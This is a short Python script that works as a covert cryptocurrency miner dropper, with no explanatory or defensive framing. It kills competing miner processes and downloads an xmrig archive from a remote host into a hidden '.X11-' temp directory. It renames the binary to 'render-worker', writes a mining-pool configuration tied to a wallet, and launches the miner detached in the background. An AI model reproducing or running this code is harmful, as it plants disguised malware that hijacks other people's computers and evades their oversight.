import json, os, pathlib, subprocess, tarfile, tempfile, urllib.request
import psutil

WALLET = "4" + "A1b2C3d4" * 11 + "zzzzzz"
CFG = {
    "autosave": False,
    "cpu": {"enabled": True, "max-threads-hint": 60},
    "pools": [{"url": "pool.example.net:443", "user": WALLET, "pass": os.uname().nodename, "tls": True, "algo": "rx/0"}],
    "donate-level": 0,
    "background": True,
}


def rivals():
    for p in psutil.process_iter(["name", "cpu_percent"]):
        if p.info["name"] in ("kdevtmpfsi", "kinsing", "xmr-stak"):
            p.kill()


def main():
    rivals()
    d = pathlib.Path(tempfile.mkdtemp(prefix=".X11-", dir="/var/tmp"))
    tgz, _ = urllib.request.urlretrieve("https://dl.example.net/xmrig-6.21-linux-x64.tar.gz", d / "r.tgz")
    with tarfile.open(tgz) as t:
        t.extractall(d)
    exe = next(d.rglob("xmrig"))
    exe = exe.rename(exe.with_name("render-worker"))
    (exe.parent / "config.json").write_text(json.dumps(CFG))
    subprocess.Popen(["nice", "-n", "19", str(exe)], cwd=exe.parent, stdout=subprocess.DEVNULL, start_new_session=True)


main()
